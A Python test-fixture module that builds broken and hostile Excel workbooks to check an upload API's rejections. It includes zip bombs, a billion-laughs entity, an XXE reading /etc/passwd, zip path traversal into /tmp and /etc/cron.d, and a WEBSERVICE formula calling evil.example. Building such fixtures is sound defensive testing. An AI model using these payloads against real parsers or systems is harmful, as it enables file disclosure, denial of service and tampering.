"""Workbooks that unfold, lie, refer to other places, or are none."""

from __future__ import annotations

import io
import struct
import zipfile
from functools import cache

import xlsxwriter
from hostile_made import Made

BOOKS = Made("workbooks")
FLOWS, QUOTES = "POST /v1/flows", "POST /v1/quotes"

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
HEAD = f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>'
TAIL = "</sheetData></worksheet>"
SHEET, TEXTS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
CELLS = (("origin", "CAN"), ("product", "7208390015"), ("period", "2025-05"), ("customs_value", "1000"))
BILLION = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@cache
def good() -> bytes:
    """A workbook of one row that nobody could refuse."""
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True}) as book:
        page = book.add_worksheet()
        for column, (name, cell) in enumerate(CELLS):
            page.write_string(0, column, name)
            page.write_string(1, column, cell)
    return file.getvalue()


def book(**parts: str | bytes | None) -> bytes:
    """The good workbook with parts of one's own, by their names; None leaves a part out."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good())) as whole, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in whole.namelist():
            own = parts.pop(name, whole.read(name))
            if own is not None:
                archive.writestr(name, own)
        for name, own in parts.items():
            archive.writestr(name, own or "")
    return file.getvalue()


def sheet(rows: str, before: str = "") -> bytes:
    """A workbook whose sheet has these rows, as XML; ``before``: what stands before its first element."""
    return book(**{SHEET: HEAD.replace("?>", f"?>{before}", 1) + rows + TAIL})


def row(number: int, *cells: str) -> str:
    """A row of cells with texts of their own."""
    places = zip("ABCD", cells, strict=True)
    shown = "".join(f'<c r="{at}{number}" t="inlineStr"><is><t>{cell}</t></is></c>' for at, cell in places)
    return f'<row r="{number}">{shown}</row>'


NAMES = row(1, *(name for name, _ in CELLS))


def patched(data: bytes, sign: bytes, offset: int, value: bytes) -> bytes:
    """The archive with bytes overwritten behind every such sign."""
    changed, at = bytearray(data), data.find(sign)
    while at >= 0:
        changed[at + offset : at + offset + len(value)] = value
        at = data.find(sign, at + 4)
    return bytes(changed)


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def nothing() -> bytes:
    return b""


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def the_first_half() -> bytes:
    return good()[: len(good()) // 2]


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def the_second_half() -> bytes:
    return good()[len(good()) // 2 :]


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def a_list_of_parts_that_lies_beyond_the_end() -> bytes:
    return patched(good(), b"PK\x05\x06", 16, struct.pack("<I", 0xFFFFFF))


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def parts_that_begin_beyond_the_end() -> bytes:
    return patched(good(), b"PK\x01\x02", 42, struct.pack("<I", 0x7FFFFFF0))


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def parts_under_lock_and_key() -> bytes:
    return patched(patched(good(), b"PK\x01\x02", 8, b"\x01"), b"PK\x03\x04", 6, b"\x01")


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def parts_packed_in_an_unknown_way() -> bytes:
    return patched(patched(good(), b"PK\x01\x02", 10, b"\x63"), b"PK\x03\x04", 8, b"\x63")


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def parts_packed_with_another_packer() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good())) as whole, zipfile.ZipFile(file, "w", zipfile.ZIP_LZMA) as archive:
        for name in whole.namelist():
            archive.writestr(name, whole.read(name))
    return file.getvalue()


@BOOKS.add(FLOWS, "xlsx", "413 table-too-large")
def a_bomb() -> bytes:
    return sheet(" " * 25_000_000)


@BOOKS.add(FLOWS, "xlsx", "413 table-too-large")
def a_bomb_that_lies_about_its_size() -> bytes:
    return patched(sheet(" " * 25_000_000), b"PK\x01\x02", 24, struct.pack("<I", 100))


@BOOKS.add(FLOWS, "xlsx", "413 table-too-large")
def a_bomb_beside_the_sheet() -> bytes:
    return book(**{"xl/media/image1.png": bytes(25_000_000)})


@BOOKS.add(FLOWS, "xlsx", "413 table-too-large")
def a_bomb_of_parts() -> bytes:
    return book(**{f"xl/media/{number}.png": "" for number in range(3_000)})


@BOOKS.add(FLOWS, "xlsx", "413 table-too-large")
def one_part_under_thousands_of_names() -> bytes:
    data = bytearray(book(**{"xl/media/a.png": bytes(1_000_000)}))
    end = data.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, end + 16)[0]
    entry = data.rindex(b"PK\x01\x02", 0, end)
    entries = data[start:end] + data[entry:end] * 1_500
    count = struct.unpack_from("<H", data, end + 10)[0] + 1_500
    told = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(entries), start, 0)
    return bytes(data[:start]) + bytes(entries) + told


@BOOKS.add(FLOWS, "xlsx", "413 table-too-large")
def two_cells_far_apart() -> bytes:
    return sheet(NAMES + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@BOOKS.add(FLOWS, "xlsx", "413 table-too-large")
def two_cells_as_far_apart_as_a_table_may_be() -> bytes:
    return sheet(NAMES + '<row r="1048576"><c r="AN1048576"><v>1</v></c></row>')


@BOOKS.add(QUOTES, "xlsx", "413 table-too-large")
def two_lines_far_apart() -> bytes:
    return sheet(NAMES + '<row r="1048576"><c r="H1048576"><v>1</v></c></row>')


@BOOKS.add(FLOWS, "xlsx", "413 table-too-large")
def a_row_beyond_every_sheet() -> bytes:
    return sheet(NAMES + '<row r="4294967296"><c r="A4294967296"><v>1</v></c></row>')


@BOOKS.add(FLOWS, "xlsx", "413 table-too-large")
def a_column_beyond_every_sheet() -> bytes:
    return sheet(NAMES + '<row r="2"><c r="ZZZZZZ2"><v>1</v></c></row>')


@BOOKS.add(FLOWS, "xlsx", "413 table-too-large")
def one_long_text_in_many_cells() -> bytes:
    texts = f'<sst xmlns="{MAIN}"><si><t>{"a" * 99_999}</t></si></sst>'
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 9_999))
    return book(**{TEXTS: texts, SHEET: HEAD + cells + TAIL})


@BOOKS.add(FLOWS, "xlsx", "413 table-too-large")
def two_million_empty_texts() -> bytes:
    return book(**{TEXTS: f'<sst xmlns="{MAIN}">{"<si><t/></si>" * 2_000_000}</sst>'})


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def a_text_that_is_not_there() -> bytes:
    return sheet('<row r="1"><c r="A1" t="s"><v>999999</v></c></row>')


@BOOKS.add(FLOWS, "xlsx", "422 flow-table")
def a_text_of_a_negative_number() -> bytes:
    return sheet('<row r="1"><c r="A1" t="s"><v>-1</v></c></row>')


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def a_billion_laughs() -> bytes:
    laugh = f'<!DOCTYPE worksheet [<!ENTITY l0 "lol">{BILLION}]>'
    return sheet(NAMES + row(2, "&l9;", "7208390015", "2025-05", "1000"), laugh)


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def an_outside_entity() -> bytes:
    spy = '<!DOCTYPE worksheet [<!ENTITY spy SYSTEM "file:///etc/passwd">]>'
    return sheet(NAMES + row(2, "&spy;", "7208390015", "2025-05", "1000"), spy)


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def a_sheet_that_is_not_closed() -> bytes:
    return book(**{SHEET: HEAD + NAMES + '<row r="2"><c r="A2"'})


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def a_sheet_that_is_no_xml() -> bytes:
    return book(**{SHEET: bytes(range(256)) * 4})


@BOOKS.add(FLOWS, "xlsx", "422 flow-table")
def elements_a_hundred_thousand_deep() -> bytes:
    return sheet("<a>" * 100_000 + "</a>" * 100_000)


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def no_sheet_at_all() -> bytes:
    return book(**{BOOK: f'<workbook xmlns="{MAIN}"><sheets></sheets></workbook>'})


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def a_sheet_that_is_somewhere_else() -> bytes:
    return book(**{SHEET: None})


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def a_sheet_at_an_address_outside() -> bytes:
    rels = "xl/_rels/workbook.xml.rels"
    with zipfile.ZipFile(io.BytesIO(good())) as whole:
        told = whole.read(rels).decode()
    return book(**{rels: told.replace("worksheets/sheet1.xml", "file:///etc/passwd")})


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def a_book_of_macros() -> bytes:
    return book(**{BOOK: None, "xl/workbook.bin": bytes(100), "xl/vbaProject.bin": bytes(100)})


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def a_book_that_is_two_kinds_at_once() -> bytes:
    return book(**{"content.xml": "<office/>", "mimetype": "application/vnd.oasis.opendocument.spreadsheet"})


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def an_archive_of_something_else() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("../../../../tmp/evil.sh", "#!/bin/sh\n")
        archive.writestr("/etc/cron.d/evil", "* * * * * root true\n")
    return file.getvalue()


@BOOKS.add(FLOWS, "xlsx", "422 unreadable-file")
def an_old_workbook() -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1_000)


@BOOKS.add(FLOWS, "xlsx", "422 product-length")
def a_code_that_lost_its_zero() -> bytes:
    cells = '<row r="2"><c r="A2" t="str"><v>CAN</v></c><c r="B2"><v>201100510</v></c>'
    return sheet(NAMES + cells + '<c r="C2"><v>2025</v></c><c r="D2"><v>1</v></c></row>')


@BOOKS.add(FLOWS, "xlsx", "422 value-not-a-number")
def a_cell_of_an_error() -> bytes:
    cells = row(2, "CAN", "7208390015", "2025-05", "@").replace('t="inlineStr"><is><t>@</t></is>', 't="e"><v>#REF!</v>')
    return sheet(NAMES + cells)


@BOOKS.add(FLOWS, "xlsx", "422 value-not-a-number")
def a_formula_without_a_value() -> bytes:
    cells = row(2, "CAN", "7208390015", "2025-05", "@").replace(
        't="inlineStr"><is><t>@</t></is>', "><f>WEBSERVICE(&quot;http://evil.example&quot;)</f>"
    )
    return sheet(NAMES + cells)


@BOOKS.add(FLOWS, "xlsx", "422 value-not-a-number")
def a_number_beyond_all_numbers() -> bytes:
    cells = row(2, "CAN", "7208390015", "2025-05", "@").replace('t="inlineStr"><is><t>@</t></is>', "><v>1e400</v>")
    return sheet(NAMES + cells)


@BOOKS.add(FLOWS, "xlsx", "422 bad-period")
def a_day_before_all_days() -> bytes:
    return sheet(NAMES + row(2, "CAN", "7208390015", "0000-00-00", "1"))


@BOOKS.add(FLOWS, "xlsx", "422 duplicate-column")
def columns_that_are_doubled() -> bytes:
    return sheet(
        NAMES.replace("</row>", '<c r="E1" t="str"><v>ORIGIN</v></c></row>') + row(2, "CAN", "27", "2025", "1")
    )
